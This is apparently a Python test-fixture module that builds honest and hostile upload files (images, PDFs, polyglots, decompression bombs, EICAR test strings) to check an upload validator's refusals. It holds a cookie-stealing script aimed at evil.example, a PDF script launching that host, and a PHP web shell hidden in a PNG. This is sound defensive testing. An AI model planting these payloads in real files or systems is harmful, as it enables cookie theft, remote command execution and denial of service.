"""Honest and hostile files, made by code. Each is a name and bytes."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from PIL import Image, ImageDraw

from tests.requests_app.door.heif import heic

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
GPS = b"Taken at 55.6761 north"
KINDS = ("jpeg", "png", "webp", "heic", "pdf")


def card(size: tuple[int, int] = (856, 540), mode: str = "RGB") -> Image.Image:
    """Something like a card: red above left, so that a test sees which way is up."""
    picture = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(picture)
    draw.rectangle((0, 0, size[0] // 2, size[1] // 2), fill=(220, 30, 30))
    for line in range(size[1] * 5 // 8, size[1], 24):
        draw.text((20, line), "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<", fill="black")
    return picture.convert(mode)


def encoded(picture: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def pdf(*contents: bytes, box: tuple[float, float] = (595, 842), images: tuple[bytes, ...] = ()) -> bytes:
    """A page for each content stream; `images` (JPEG) are /I0, /I1 … on each."""
    document = pikepdf.new()
    objects = {f"/I{number}": _image(document, data) for number, data in enumerate(images)}
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    for content in contents or (b"BT /F 24 Tf 72 700 Td (Anna Maria) Tj ET",):
        page = document.add_blank_page()
        page.obj.MediaBox = [0, 0, *box]
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font), XObject=pikepdf.Dictionary(**objects))
        page.obj.Contents = pikepdf.Stream(document, content)
    return written(document)


def written(document: pikepdf.Pdf, **saved: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **saved)
    return out.getvalue()


def _image(document: pikepdf.Pdf, data: bytes) -> pikepdf.Stream:
    width, height = Image.open(io.BytesIO(data)).size
    return pikepdf.Stream(document, data, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=width,
                          Height=height, ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
                          Filter=pikepdf.Name.DCTDecode)


def honest(kind: str) -> bytes:
    if kind == "heic":
        return heic()
    return pdf() if kind == "pdf" else encoded(card(), kind)


def with_exif(kind: str, *, orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = orientation, GPS.decode()
    return encoded(card(), kind, exif=exif, icc_profile=b"profile" * 50)


# --- PNG by hand: what no library would write ------------------------------------------------------------------------
def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, rows: bytes = b"", depth: int = 8, colour: int = 2, before: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + before + chunk(b"IDAT", rows or zlib.compress(b"")) + chunk(b"IEND", b"")


def deflated_zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)), packer.flush()])


def jpeg_that_says(width: int, height: int) -> bytes:
    """A small picture whose header claims another size."""
    data = bytearray(encoded(card((64, 48)), "jpeg"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_that_says(width: int, height: int) -> bytes:
    extended = b"VP8X" + struct.pack("<I", 10) + bytes(4) + _three(width - 1) + _three(height - 1)
    body = extended + encoded(card((64, 48)), "webp", lossless=True)[12:]
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _three(number: int) -> bytes:
    return struct.pack("<I", number)[:3]


def archive(**entries: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in entries.items():
            packed.writestr(name, data)
    return out.getvalue()


# --- PDF --------------------------------------------------------------------------------------------------------------
def pdf_with_script() -> bytes:
    document = pikepdf.open(io.BytesIO(pdf()))
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('//evil.example')"))
    document.Root.OpenAction = document.make_indirect(script)
    return written(document)


def pdf_with_attachment(data: bytes) -> bytes:
    document = pikepdf.open(io.BytesIO(pdf()))
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(document, data, filename="invoice.exe")
    return written(document)


def pdf_laughing(depth: int = 12, times: int = 12) -> bytes:
    """Forms that draw forms that draw forms: 12 to the power of 12 rectangles in a few hundred bytes."""
    document = pikepdf.new()
    page = document.add_blank_page()
    inner = document.make_stream(b"0 0 9 9 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                                 BBox=[0, 0, 600, 800])
    for _ in range(depth):
        drawn = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner))
        inner = document.make_stream(b"/X Do " * times, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                                     BBox=[0, 0, 600, 800], Resources=drawn)
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner))
    page.obj.Contents = document.make_stream(b"/X Do")
    return written(document)


def pdf_with_pixels(side: int) -> bytes:
    """A page with an image of side × side pixels, all of them one colour, deflated."""
    document = pikepdf.new()
    page = document.add_blank_page()
    picture = pikepdf.Stream(document, zlib.compress(bytes(1 << 20)), Type=pikepdf.Name.XObject,
                             Subtype=pikepdf.Name.Image, Width=side, Height=side, BitsPerComponent=8,
                             ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.FlateDecode)
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=picture))
    page.obj.Contents = document.make_stream(b"q 600 0 0 800 0 0 cm /I Do Q")
    return written(document)


def pdf_deflated_content(size: int) -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    packer = zlib.compressobj(9)
    part = b"0 0 m 500 700 l S " * 60_000
    data = b"".join([*(packer.compress(part) for _ in range(size // len(part))), packer.flush()])
    page.obj.Contents = pikepdf.Stream(document, data, Filter=pikepdf.Name.FlateDecode)
    return written(document)


def pdf_in_circles() -> bytes:
    """Its tree of pages leads back to itself."""
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF")


def pdf_encrypted(*, password: str) -> bytes:
    document = pikepdf.open(io.BytesIO(pdf()))
    return written(document, encryption=pikepdf.Encryption(user=password, owner="owner"))


# --- the corpus -------------------------------------------------------------------------------------------------------
def unusual() -> Iterator[tuple[str, bytes]]:
    """Odd but honest: each must come out as a clean picture."""
    for kind in ("jpeg", "png", "webp"):
        yield f"{kind} with EXIF and a profile", with_exif(kind, orientation=6)
    yield "JPEG, CMYK", encoded(card(mode="CMYK"), "jpeg")
    yield "JPEG, grey", encoded(card(mode="L"), "jpeg")
    yield "JPEG, progressive", encoded(card(), "jpeg", progressive=True)
    yield "JPEG, two pictures (MPO)", encoded(card(), "mpo", save_all=True, append_images=[card()])
    yield "JPEG of 48 megapixels", encoded(card((8064, 6048)), "jpeg", quality=50)
    yield "PNG, 16 bits", encoded(Image.new("I;16", (400, 300), 40_000), "png")
    yield "PNG, palette with transparency", encoded(card(mode="P"), "png", transparency=1)
    yield "PNG, colour key", encoded(card(), "png", transparency=(255, 255, 255))
    yield "PNG, grey with transparency", encoded(card(mode="LA"), "png")
    yield "PNG, one bit", encoded(card(mode="1"), "png")
    yield "PNG, animated", encoded(card(), "png", save_all=True, append_images=[card().rotate(180)] * 3)
    yield "PNG, one pixel", encoded(card((1, 1)), "png")
    yield "PNG, 20,000 by 2", encoded(card((20_000, 2)), "png")
    yield "WebP, animated", encoded(card(), "webp", save_all=True, append_images=[card().rotate(180)] * 5)
    yield "WebP, lossless with transparency", encoded(card(mode="RGBA"), "webp", lossless=True)
    yield "HEIC, turned", heic(turned=1)
    yield "HEIC, six pictures", heic(tiles=5)
    yield "HEIC of 25 megapixels", heic(rows=8, columns=12)
    yield "HEIC, another brand", heic(brand=b"mif1")
    yield "PDF with a scan", pdf(b"q 595 0 0 842 0 0 cm /I0 Do Q", images=(encoded(card(), "jpeg"),))
    yield "PDF, four pages", pdf(*[b"0 0 100 100 re f"] * 4)
    yield "PDF, a giant page", pdf(b"0 0 9 9 re f", box=(14_400, 14_400))
    yield "PDF, a page beyond all bounds", pdf(b"0 0 9 9 re f", box=(1e7, 1e7))
    yield "PDF, a page of half a point", pdf(b"0 0 9 9 re f", box=(0.5, 0.5))
    yield "PDF, a long thin page", pdf(b"0 0 9 9 re f", box=(3, 14_400))
    yield "PDF with a script", pdf_with_script()
    yield "PDF with an attachment", pdf_with_attachment(b"MZ" + bytes(1000))
    yield "PDF, encrypted with an empty password", pdf_encrypted(password="")
    yield "polyglot: PDF and ZIP", pdf() + archive(evil=HTML)
    yield "polyglot: JPEG and HTML", encoded(card(), "jpeg", comment=HTML) + HTML
    yield "polyglot: JPEG and ZIP", encoded(card(), "jpeg") + archive(evil=HTML)
    yield "polyglot: PNG and PHP", png_with_php()
    yield "polyglot: WebP and script", encoded(card(), "webp") + b"*/=1;alert(1)//"


def png_with_php() -> bytes:
    data = encoded(card(), "png")
    return data[:33] + chunk(b"tEXt", b"Comment\0<?php system($_GET['c']); ?>") + data[33:] + b"<?php phpinfo(); ?>"


def hostile() -> Iterator[tuple[str, bytes, set[str]]]:
    """Each with the refusals that are right for it."""
    yield "nothing", b"", {"empty"}
    yield "zero bytes", bytes(100_000), {"wrong_type"}
    yield "noise", random.Random(1).randbytes(100_000), {"wrong_type"}
    yield "too many bytes", encoded(card(), "jpeg") + bytes(13 << 20), {"too_large"}
    for name, data in disguised().items():
        yield name, data, {"wrong_type"}
    yield "PNG that says 60,000 by 60,000", png(60_000, 60_000), {"too_many_pixels"}
    yield "PNG that is 60,000 by 60,000", png(60_000, 60_000, rows=deflated_zeros(64 << 20)), {"too_many_pixels"}
    yield "PNG without pixels", png(0, 100), {"unreadable", "too_many_pixels"}
    zeros = b"x\0\0" + deflated_zeros(200 << 20)
    yield "PNG, its text a bomb", png(8, 8, before=chunk(b"zTXt", zeros)), {"unreadable"}
    yield "PNG, its profile a bomb", png(8, 8, before=chunk(b"iCCP", zeros)), {"unreadable"}
    yield "PNG, too few rows", png(4000, 4000, rows=deflated_zeros(1 << 20)), {"unreadable"}
    yield "JPEG that says 65,000 by 65,000", jpeg_that_says(65_000, 65_000), {"too_many_pixels"}
    yield "JPEG that says 0 by 100", jpeg_that_says(0, 100), {"unreadable", "too_many_pixels"}
    yield "WebP that says 16,000,000 by 2,000", webp_that_says(16_000_000, 2_000), {"unreadable", "too_many_pixels"}
    yield "WebP of 16 megapixels", encoded(card((4600, 3500)), "webp", method=0), {"too_many_pixels"}
    yield "HEIC of 80 megapixels", heic(rows=16, columns=19), {"too_many_pixels"}
    yield "HEIC of 3,600 tiles", heic(rows=60, columns=60), {"unreadable"}
    yield "HEIC whose size is not true", heic(says=(5_000, 5_000)), {"unreadable"}
    yield "AVIF", b"\0\0\0\x20ftypavif" + bytes(40), {"wrong_type"}
    yield "PDF of 10,000 pages", pdf(*[b""] * 10_000), {"too_many_pages"}
    yield "PDF of five pages", pdf(*[b""] * 5), {"too_many_pages"}
    yield "PDF without pages", written(pikepdf.new()), {"unreadable"}
    yield "PDF with a password", pdf_encrypted(password="secret"), {"locked"}
    yield "PDF, forms in forms in forms", pdf_laughing(), {"unreadable", "clean"}
    yield "PDF, an image of 30,000 by 30,000", pdf_with_pixels(30_000), {"unreadable", "clean"}
    yield "PDF, a content stream of 500 MB", pdf_deflated_content(500 << 20), {"unreadable", "too_many_pixels"}
    yield "PDF in circles", pdf_in_circles(), {"unreadable"}
    yield "JPEG with a virus in its tail", encoded(card(), "jpeg") + EICAR, {"infected"}
    yield "polyglot: PNG and ZIP with a virus", encoded(card(), "png") + archive(virus=EICAR), {"infected"}
    yield "PDF with a virus in its content", pdf(b"% " + EICAR), {"infected"}


def disguised() -> dict[str, bytes]:
    """What is no picture, whatever it is called."""
    return {
        "SVG": SVG, "HTML": HTML,
        "XML with entities": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">]><l>&a;</l>',
        "GIF": encoded(card(), "gif"), "polyglot: GIF and script": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
        "TIFF": encoded(card(), "tiff"), "BMP": encoded(card(), "bmp"), "ZIP": archive(a=b"b"),
        "junk before a PDF": b"\n" + pdf(), "HTML before a PDF": HTML + pdf(), "EICAR": EICAR,
        "EICAR in a ZIP": archive(virus=EICAR), "PostScript": b"%!PS-Adobe-3.0\nshowpage", "EXE": b"MZ" + bytes(500),
        "JPEG XL": b"\xff\x0a" + bytes(100), "only a magic number": b"\xff\xd8",
    }
